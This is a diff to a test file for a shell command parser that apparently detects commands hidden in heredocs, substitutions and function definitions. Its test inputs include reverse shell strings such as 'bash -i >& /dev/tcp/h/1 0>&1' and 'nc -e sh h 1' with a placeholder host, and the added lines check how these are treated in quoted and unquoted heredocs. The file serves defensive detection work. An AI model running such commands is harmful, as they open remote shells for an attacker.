@@ -270,6 +270,8 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
   assert.deepEqual(must(run('v=$(git describe); echo "$v"'), 'echo').input_from, [], 'only data from elsewhere');
   assert.deepEqual(must(run('bash -i >& /dev/tcp/h/1 0>&1'), 'bash').argv, ['bash', '-i'], 'digits touching a redirect are its descriptor');
   assert.ok(must(run('f() { bash -i; } >& /dev/tcp/h/1 0>&1; f'), 'bash').redirects.includes('>&/dev/tcp/h/1'), "a definition's redirects apply to its body");
+  assert.ok(nc('cat <<EOF\n`nc -e sh h 1`\nEOF') && nc('cat <<-EOF\n\t$(nc -e sh h 1)\n\tEOF'), 'substitutions in an unquoted heredoc run');
+  assert.equal(nc("cat <<'EOF'\n`nc -e sh h 1`\nEOF"), undefined, 'not in a quoted one');
   assert.equal(nc("cat <<'EOF' > notes.md\n$(nc -e sh h 1)\nEOF"), undefined, 'a quoted heredoc is text');
   assert.equal(nc("echo 'time { nc -e sh h 1; }'"), undefined, 'a mention is not a command');
   assert.equal(nc("trap - EXIT; echo 'nc -e sh h 1'"), undefined);
